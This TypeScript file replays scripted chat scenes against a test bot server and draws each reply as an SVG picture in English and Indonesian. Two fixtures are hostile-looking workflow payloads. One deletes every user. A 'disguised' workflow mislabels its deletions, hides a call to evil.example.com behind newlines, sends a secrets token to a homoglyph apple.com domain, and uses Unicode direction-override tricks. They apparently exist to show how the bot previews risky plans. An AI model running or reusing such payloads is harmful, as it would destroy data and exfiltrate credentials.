import { BotApiServer } from "../../test/bot-api/bot-api-server.ts";
import type { BotMessage } from "../../test/bot-api/conversation.ts";
import { withBot } from "./conversation.ts";
import { type Bubble, drawPicture } from "./draw.ts";

/** A picture of a chat in both languages, by the name of its file. */
export interface NamedPicture {
  name: string;
  svg: string;
}

const PEOPLE = [
  { id: 501, first_name: "Olla", language_code: "en", title: "In English" },
  { id: 502, first_name: "Siti", language_code: "id", title: "Dalam bahasa Indonesia" },
] as const;

const MASS_DELETION = [
  "[MULTISTEP:CREATE_WORKFLOW:Clean up]",
  '[MULTISTEP:ADD_STEP:workflow_id:Count:database_operation:{"operation":"count","collection":"users","query":{}}]',
  '[MULTISTEP:ADD_STEP:workflow_id:Delete:database_operation:{"operation":"delete","collection":"users","query":{},"all":true}:step1]',
  '[MULTISTEP:ADD_STEP:workflow_id:Tell:send_message:{"text":"All users are gone."}:step2]',
  "[MULTISTEP:EXECUTE:workflow_id]",
].join("\n");

const DISGUISED = `[MULTISTEP:QUICK_WORKFLOW:Report:${JSON.stringify([
  {
    name: "1. ✅ Reads users: sends here",
    handler: "database_operation",
    params: { operation: "delete", collection: "users", all: true },
  },
  { name: "Fetch", handler: "api_call", params: { url: "https://api.example.com{context.path}" } },
  { name: "Send", handler: "api_call", params: { url: `http:${"\n".repeat(118)}//evil.example.com/report` } },
  {
    name: "Copy",
    handler: "api_call",
    params: { url: "https://аpple.com/login", headers: { key: "{secrets['TOKEN']}" } },
  },
  {
    name: "Change\u202e\u200b it",
    handler: "database_operation",
    params: {
      operation: "delete",
      collection: "logs",
      query: { old: "x".repeat(200), $or: [{ id: 1 }, { id: { $gt: 0 } }] },
    },
  },
])}]`;

const FORWARDED = [
  "[MULTISTEP:CREATE_WORKFLOW:Tea]",
  '[MULTISTEP:ADD_STEP:workflow_id:Tell:log:{"message":"Tea"}]',
  "[MULTISTEP:EXECUTE:workflow_id]",
].join("\n");
const FROM_BEA = {
  forward_origin: { type: "user", date: 1, sender_user: { id: 777, is_bot: false, first_name: "Bea" } },
};

const MARKDOWN = [
  "## Weekly report",
  "",
  "**Revenue** is up _8 %_, see `report.csv`:",
  "",
  "- New users: 154",
  "- Churn: ~~3 %~~ 2 %",
  "",
  "| KPI | Value |",
  "|---|---|",
  "| NPS | 61 |",
  "",
  "[MULTISTEP:LIST_SCHEDULES]",
].join("\n");

const FAILING = `[MULTISTEP:QUICK_WORKFLOW:Compare:${JSON.stringify([
  { name: "Start", handler: "log", params: { message: "Comparing" } },
  {
    name: "Compare",
    handler: "condition_check",
    params: { condition: "1 < 'a'" },
    dependencies: ["Start"],
    retry_count: 0,
  },
  { name: "Report", handler: "send_message", params: { text: "Done" }, dependencies: ["Compare"] },
])}]`;

/** What is sent, whether it is worth showing, and how many messages the bot answers with. */
const SCENES: readonly Scene[] = [
  { name: "plan", title: "The plan of a mass deletion", text: MASS_DELETION, answers: 1 },
  { name: "disguised", title: "A plan that tries to hide what it does", text: DISGUISED, answers: 1 },
  { name: "forwarded", title: "Forwarded: a workflow and a change", text: FORWARDED, answers: 1, more: FROM_BEA },
  { name: "markdown", title: "An answer in Markdown", text: MARKDOWN, answers: 1 },
  { name: "failed", title: "A failed run", text: FAILING, answers: 2 },
  { name: "start", title: "/start", text: "/start", answers: 1 },
  { name: "help", title: "/help", text: "/help", answers: 1 },
];

interface Scene {
  name: string;
  title: string;
  text: string;
  answers: number;
  /** What else the message has. */
  more?: object;
}

function toBubble({ text, entities, keyboard }: BotMessage): Bubble {
  return { text, entities, isOwn: false, buttons: keyboard.map((row) => row.map((button) => button.text)) };
}

/** Plays each scene with the real bot in both languages, on a server without rich messages, so that all looks are entities. */
export async function namedPictures(): Promise<NamedPicture[]> {
  const server = await BotApiServer.start({ rich: false });
  const messages = (id: number): BotMessage[] => structuredClone(server.messages(id));
  try {
    return await withBot(
      server,
      PEOPLE.map(({ id }) => id),
      async () => {
        const pictures: NamedPicture[] = [];
        for (const { name, title, text, answers, more = {} } of SCENES) {
          const columns = [];
          for (const { title: language, ...person } of PEOPLE) {
            const before = messages(person.id).length;
            server.sendText(person, person.id, text, more);
            const isOver = () => {
              const said = messages(person.id).slice(before);
              const hasEnded = name !== "failed" || said.some((one) => one.text.includes("❌"));
              return said.length >= answers && hasEnded ? said : undefined;
            };
            const said = await server.waitFor(title, isOver);
            const own: Bubble = { text, entities: [], isOwn: true, buttons: [] };
            const isCommand = text.startsWith("/");
            columns.push({ title: language, bubbles: [...(isCommand ? [own] : []), ...said.map(toBubble)], note: "" });
          }
          pictures.push({ name, svg: drawPicture([columns[0]!, columns[1]!], title) });
        }
        return pictures;
      },
    );
  } finally {
    await server.stop();
  }
}
